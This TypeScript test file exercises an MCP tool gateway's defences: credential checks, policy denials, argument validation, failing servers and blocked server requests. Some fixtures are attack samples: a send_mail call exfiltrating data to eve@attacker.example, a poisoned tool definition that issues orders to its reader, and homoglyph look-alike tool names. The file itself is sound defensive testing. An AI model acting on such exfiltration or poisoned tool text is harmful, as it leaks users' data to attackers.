/** Single calls: who may call what, with which arguments, and what comes of servers that answer badly. */
import type { SceneCell } from '../../cell.ts';
import { callTool } from '../../run/mcp.ts';
import { ANSWERED, ASKED, EMAIL, MARK } from '../../samples.ts';
import { turnedAway } from '../asking.ts';
import {
  type CallRow,
  callCells,
  clientOf,
  compared,
  done,
  holds,
  inBothEras,
  NOTED,
  refusedCall,
  waits,
  withheld,
} from './asking.ts';

const READING = { tool: 'desk/fetch_page', given: { topic: 'plain', ...NOTED } };

const CALLERS: readonly Omit<CallRow, 'control' | 'call'>[] = [
  {
    place: 'without any credential',
    credential: () => null,
    expect: turnedAway(401, 'identity.missing'),
  },
  {
    place: 'with a key that nobody issued',
    credential: () => 'gh_0123456789abcdefghjkmnpqrstvwxyz',
    expect: turnedAway(401, 'identity.invalid'),
  },
  {
    place: 'with a token that has expired',
    credential: ({ issuer }) => issuer.token({ sub: 'x', roles: ['developer'], exp: 1 }),
    expect: turnedAway(401, 'identity.expired'),
  },
  {
    place: 'with a token that was forged',
    credential: ({ issuer }) => issuer.token({ sub: 'x', roles: ['developer'] }, { forged: true }),
    expect: turnedAway(401, 'identity.invalid'),
  },
  {
    place: 'with a token for answering questions',
    credential: ({ issuer }) => issuer.token({ sub: 'x', aud: 'gatehouse-approvals', roles: ['developer'] }),
    expect: turnedAway(401, 'identity.invalid'),
  },
  {
    place: 'with two credentials',
    headers: { 'x-api-key': 'another' },
    expect: turnedAway(401, 'identity.ambiguous'),
  },
  {
    place: 'with a key that was revoked a second ago',
    async credential({ control }) {
      const { id, text } = (await control?.create({})) ?? { id: '', text: '' };
      await control?.revoke(id);
      await new Promise((resolve) => setTimeout(resolve, 1_000));
      return text;
    },
    expect: turnedAway(401, 'identity.revoked'),
  },
  {
    place: 'with a key',
    credential: async ({ control }) => (await control?.create({}))?.text ?? '',
    expect: done(),
  },
];

const IDENTITY = CALLERS.map((row): CallRow => ({ control: 'tool identity', call: READING, ...row }));

const ALLOWED: readonly CallRow[] = [
  {
    control: 'tool call',
    place: 'that only reads',
    call: READING,
    expect: done({
      client: { contains: [ANSWERED] },
      intent: { tool: 'desk/fetch_page', unfounded: [] },
    }),
  },
  {
    control: 'tool call',
    place: 'that an endorsement lets pass',
    call: { tool: 'desk/tell', given: { text: `${ASKED} ${MARK}` } },
    expect: done({ client: { contains: [ASKED] }, intent: { tool: 'desk/tell', unfounded: ['text'] } }),
  },
  {
    control: 'tool not allowed',
    place: 'by a rule',
    call: { tool: 'desk/erase_all', given: NOTED },
    expect: refusedCall('policy.denied', { station: 'decide' }),
  },
  {
    control: 'tool not allowed',
    place: 'to somebody without any right',
    as: 'stranger',
    call: READING,
    expect: refusedCall('policy.denied', { station: 'decide' }),
  },
  ...(['book_room', 'send_mail', 'save_contact'] as const).map(
    (tool): CallRow => ({
      control: 'call without words',
      place: `of ${tool}`,
      call: {
        tool: `desk/${tool}`,
        given: {
          book_room: { room: 'blue', ...NOTED },
          send_mail: { to: 'eve@attacker.example', subject: 'all of it', body: MARK },
          save_contact: { shelf: 'mine', name: MARK, email: 'eve@attacker.example' },
        }[tool],
      },
      expect: waits(tool === 'book_room' ? {} : { findings: { email: 1 } }),
    }),
  ),
];

const CATALOGUE: readonly CallRow[] = (
  [
    ['tool not accepted', 'that no manifest names', 'desk/unseen', 'tool.unknown'],
    ['tool unknown', 'of that name', 'desk/no_such_tool', 'tool.unknown'],
    ['tool unknown', 'with a name that objects have', 'desk/__proto__', 'tool.unknown'],
    ['tool unknown', 'in another spelling', 'desk/Fetch_Page', 'tool.unknown'],
    ['poisoned definition', 'that orders its reader', 'desk/poisoned', 'tool.suspended'],
    ['names alike', 'equal on two servers', 'desk/file_report', 'tool.unknown'],
    ['names alike', 'equal on two servers, the other one', 'annex/file_report', 'tool.unknown'],
    ['names alike', 'that look the same', 'desk/pay_bill', 'tool.unknown'],
    ['names alike', 'that look the same, the other one', 'annex/pay_biII', 'tool.unknown'],
  ] as const
).map(([control, place, tool, code]) => ({
  control,
  place,
  call: { tool, given: NOTED },
  expect: refusedCall(code, { station: 'admit' }),
}));

const ARGUMENTS: readonly CallRow[] = (
  [
    ['an argument that nobody declared', { door: 'a', force: 'true', ...NOTED }],
    ['an argument of another type', { door: 1, ...NOTED }],
    ['an argument of the prototype', { door: 'a', constructor: 'x', ...NOTED }],
    ['a list where a text belongs', { door: ['a', 'b'], ...NOTED }],
  ] as const
).map(([place, given]) => ({
  control: 'arguments of a tool',
  place,
  call: { tool: 'desk/open_door', given },
  expect: refusedCall('tool.arguments', { station: 'admit' }),
}));

const SERVERS: readonly CallRow[] = (
  [
    ['never answers', 'hang', 'tool.timeout', 'unknown'],
    ['never answers what may have been done', 'start_engine', 'tool.timeout', 'unknown'],
    ['hangs up', 'hang_up', 'tool.unavailable', 'unknown'],
    ['answers half a message', 'garbage', 'tool.protocol', 'unknown'],
    ['answers with a number', 'number', 'tool.protocol', 'unknown'],
    ['answers with a page', 'page', 'tool.protocol', 'unknown'],
    ['answers another call', 'another', 'tool.timeout', 'unknown'],
  ] as const
).map(([place, tool, code, ending]) => ({
  control: 'server of tools',
  place: `that ${place}`,
  call: { tool: `annex/${tool}`, given: NOTED },
  expect: withheld(code, { ending }),
}));

/** What a server wants of its client is a crossing of its own: denied by default, and on record. */
const ASKING: readonly SceneCell[] = (
  [
    ['ask_model', 'sampling/createMessage'],
    ['ask_person', 'elicitation/create'],
  ] as const
).flatMap(([tool, method]) =>
  inBothEras('server that asks its client', `for ${method}`, async (of) => {
    const client = clientOf(of, { capabilities: { sampling: {}, elicitation: { form: {} } } });
    const seen = await callTool(client, { tool: `annex/${tool}`, given: { note: of.mark } });
    const acts = await of.stage.record?.acts(seen.headers['x-gatehouse-crossing'] ?? '');
    const told = acts?.map(({ body }) => JSON.parse(body) as { act: string; subject: string });
    const expect = {
      ...withheld('policy.denied', { ending: 'cut' }),
      client: { lacks: ['password', 'createMessage'] },
    };
    return [
      ...(await compared(of.stage, { seen, client, expect })),
      ...holds(
        told?.map(({ act, subject }) => `${act} ${subject}`).join() === `server.ask refused ${method}`,
        `on record: ${JSON.stringify(told)}`,
      ),
    ];
  }),
);

const LARGE: readonly CallRow[] = [
  {
    control: 'server of tools',
    place: 'that answers more than the limit',
    call: { tool: 'desk/fetch_page', given: { topic: 'large', ...NOTED } },
    expect: withheld('tool.too_large', { ending: 'unknown' }),
  },
  {
    control: 'server of tools',
    place: 'that fails, and says whose data it is',
    call: { tool: 'annex/wrong', given: NOTED },
    expect: {
      ...done({ outcome: { findings: { email: 2 }, masked: { email: 2 } } }),
      client: { lacks: [EMAIL] },
    },
  },
];

export const TOOL_CALLS: readonly SceneCell[] = [
  ...ASKING,
  ...callCells([...IDENTITY, ...ALLOWED, ...CATALOGUE, ...ARGUMENTS, ...SERVERS, ...LARGE]),
];
